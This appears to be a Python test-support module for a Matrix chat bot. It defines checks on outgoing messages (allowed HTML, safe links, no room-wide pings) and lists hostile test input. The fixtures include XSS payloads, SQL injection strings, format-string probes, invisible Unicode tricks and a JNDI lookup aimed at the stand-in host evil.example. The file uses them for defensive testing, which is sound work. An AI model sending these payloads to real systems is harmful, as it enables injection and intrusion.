"""What every message the bot sends must satisfy, and the hostile input it is tested with.

Shared by the property tests (router, parsers, renderers on the fake client) and the fixed
hostile set sent through a real Synapse, so both check exactly the same rules.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from bot.formatting import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

# Links the bot itself may produce (knowledge-base sources); user input may never add one.
SAFE_SCHEMES = {"http", "https", "mailto"}
# Marker domain of every link in the hostile input: one of these in an href means escaping failed.
EVIL = "evil.example"

# Fragments a hostile member (or a careless coordinator) types; the property tests combine them
# with random text, the fixed set below uses them whole.
HOSTILE_FRAGMENTS = [
    '<a href="javascript:alert(1)">klick</a>',
    "<a href=javascript:alert(1)>x</a>",
    f'<a href="https://{EVIL}/x" data-evil="1">Anmeldung</a>',
    "<script>alert(1)</script>",
    f"<img src=https://{EVIL}/p.png onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<b onmouseover=alert(1)>fett</b>",
    "<style>*{display:none}</style>",
    '<span data-mx-color="#f00" style="x">rot</span>',
    "@room",
    "@room @room!",
    '<a href="https://matrix.to/#/@room">@room</a>',
    "[@carol:example.org](https://matrix.to/#/@carol:example.org)",
    f"[klick](javascript:alert(1)) [hier]({EVIL})",
    "<https://evil.example/autolink>",
    "'; DROP TABLE outbox; --",
    "' OR 1=1 --",
    '" OR ""="',
    "\u202egnudlemna\u202c",  # right-to-left override
    "\u200f\u200e\u2066x\u2069",  # RTL/LTR marks and isolates
    "\u200b\u200d\ufeff",  # zero-width characters
    "\x00\x01\x07\x1b[31mrot\x1b[0m\x7f",
    "%s %n {0} {name} {{}} %(x)s",
    "${jndi:ldap://evil.example/a}",
    "&lt;b&gt;schon escaped&amp;amp;",
    "**fett** _kursiv_ `code` ~~weg~~ # Titel",
    "> !status\n\n",
    "\n> !meine-daten\n",
    '"nicht geschlossen',
    "'auch nicht",
    "\\",
    "👍🏽‍🔥🇩🇪",
]


class _Collector(HTMLParser):
    def __init__(self, links_from_input: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.links_from_input = links_from_input
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}> not in the Matrix subset")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"attribute {name}= on <{tag}>")
            if name == "href":
                self._check_href(value or "")

    def _check_href(self, href: str) -> None:
        scheme = urlsplit(href.strip()).scheme.lower()
        if scheme and scheme not in SAFE_SCHEMES:  # a relative link is harmless
            self.problems.append(f"href with scheme {scheme!r}: {href!r}")
        if EVIL in href and not self.links_from_input:
            self.problems.append(f"href from user input: {href!r}")
        if "matrix.to/#/@room" in href or "matrix.to/#/%40room" in href:
            self.problems.append(f"@room pill: {href!r}")

    handle_startendtag = handle_starttag


def html_problems(markup: str, links_from_input: bool = False) -> list[str]:
    """Tags and attributes outside the Matrix subset, dangerous links; with
    ``links_from_input`` (a coordinator's Markdown answer) links typed by a person are fine."""
    parser = _Collector(links_from_input)
    parser.feed(markup)
    parser.close()
    return parser.problems


def content_problems(
    content: dict[str, Any], may_mention: set[str] | frozenset[str] = frozenset()
) -> list[str]:
    """Everything wrong with one outgoing event content (empty list: fine).

    ``may_mention``: the user ids this message may ping (the command's sender for a reply).
    """
    problems: list[str] = []
    if content.get("msgtype") == "m.file":
        return [] if content.get("m.mentions") == {} else ["file without empty m.mentions"]
    mentions = content.get("m.mentions")
    if not isinstance(mentions, dict):
        problems.append("m.mentions missing: legacy push rules would read @room in the body")
    else:
        if mentions.get("room"):
            problems.append("m.mentions.room is set: pings the whole room")
        extra = set(mentions.get("user_ids") or []) - set(may_mention)
        if extra:
            problems.append(f"pings {sorted(extra)}")
    if content.get("format") == "org.matrix.custom.html":
        problems.extend(html_problems(str(content.get("formatted_body", ""))))
    body = str(content.get("body", ""))
    if "Traceback" in body or "Error:" in body:
        problems.append(f"internal detail in body: {body[:200]!r}")
    return problems


# The fixed hostile set for the real Synapse: (body, extra content). Each one that is a command
# must get exactly one reply; the others none (not addressed to the bot).
LONG = "Ausschreibung " * 1500  # ~21 kB, within Synapse's 64 kB event limit
HOSTILE_MESSAGES: list[tuple[str, dict[str, Any]]] = [
    ("!hilfe " + LONG, {}),
    ("!frage " + LONG, {}),
    ("!frage " + "ẞ" * 5000, {}),
    ("!hilfe \x01\x07\x1b[31m\x7f", {}),
    ("!frage \u202egnudlemna\u202c ist was?", {}),
    ('!hilfe <a href="javascript:alert(1)">klick</a>', {}),
    ("!frage <script>alert(1)</script> Was ist die 115?", {}),
    (f"!frage <img src=https://{EVIL}/p.png onerror=alert(1)>", {}),
    ("!hilfe @room", {}),
    ("!frage @room bitte alle lesen: wie melde ich mich an?", {"m.mentions": {"room": True}}),
    (
        "!frage [@carol:example.org](https://matrix.to/#/@carol:example.org) sagt hallo",
        {
            "format": "org.matrix.custom.html",
            "formatted_body": '<a href="https://matrix.to/#/@carol:example.org">Carol</a>',
        },
    ),
    ('!frage <a href="https://matrix.to/#/@room">@room</a>', {}),
    ("!hilfe '; DROP TABLE outbox; --", {}),
    ("!frage ' OR 1=1 -- was kostet die Mitgliedschaft", {}),
    ('!hilfe "nicht geschlossen', {}),
    ("> <@x:example.org> !status\n\n!hilfe", {}),  # only the un-quoted command runs
    ("> <@x:example.org> !meine-daten\n> !hilfe\n\nDanke", {}),  # nothing runs
    ("!HILFE", {}),
    ("!hilfe hilfe hilfe hilfe", {}),
    ("!<b>fett</b>", {}),  # unknown command, its name echoed
    (f"!hilfe \"<a href='https://{EVIL}'>x</a>\"", {}),
    ("!frage \u200b\u200d\ufeff", {}),
    ("!frage %s %n {0} {name} {{}}", {}),
    ("!frage ${jndi:ldap://evil.example/a}", {}),
    ("!frage &lt;b&gt;schon escaped&amp;amp;", {}),
    ("!frage \n\n\n", {}),  # empty question: usage
    ("!hilfe\t\tstatus", {}),
    ("!status", {}),  # coordinators only: refused, politely
    ("!faq-statistik", {}),
    ("!antworten q1 <script>x</script>", {}),
    # Registration, reminders, summaries (no event configured: each explains what is missing).
    ("!anmelden <script>x</script>", {}),
    ("!anmelden plenum-2027 ; <img src=x onerror=alert(1)> @room", {}),
    ("!organisation <a href='javascript:alert(1)'>Stadt</a> @room '; DROP TABLE x; --", {}),
    ("!veranstaltungen", {}),
    ("!meine-anmeldungen", {}),
    ("!erinnerung in 1 Stunde; @room <b>alle</b>", {}),  # coordinators only
    ("!erinnere-mich in 1 Stunde; <script>x</script> @room", {}),
    ("!erinnere-mich 31.02.2027 9 Uhr; ungültig", {}),
    ("!notiz ‮<i>x</i> @room", {}),
    ("!aufgaben ${jndi:ldap://evil.example/a}", {}),
    ("@room ! hilfe", {}),  # not a command: no reply
    ("!", {}),  # not a command
]


def command_answers(rows: list[Any], event_id: str, room_id: str) -> list[dict[str, Any]]:
    """What answered a command in its room: its replies; or, for a command whose answer is a
    message of its own (an announcement members react to, so not a reply), that message."""
    contents = [(row["room_id"], json.loads(row["content"])) for row in rows]
    replies = [c for _, c in contents if reply_target(c) == event_id]
    return replies or [c for room, c in contents if room == room_id]


def reply_target(content: dict[str, Any]) -> str | None:
    relates = content.get("m.relates_to") or {}
    return (relates.get("m.in_reply_to") or {}).get("event_id")
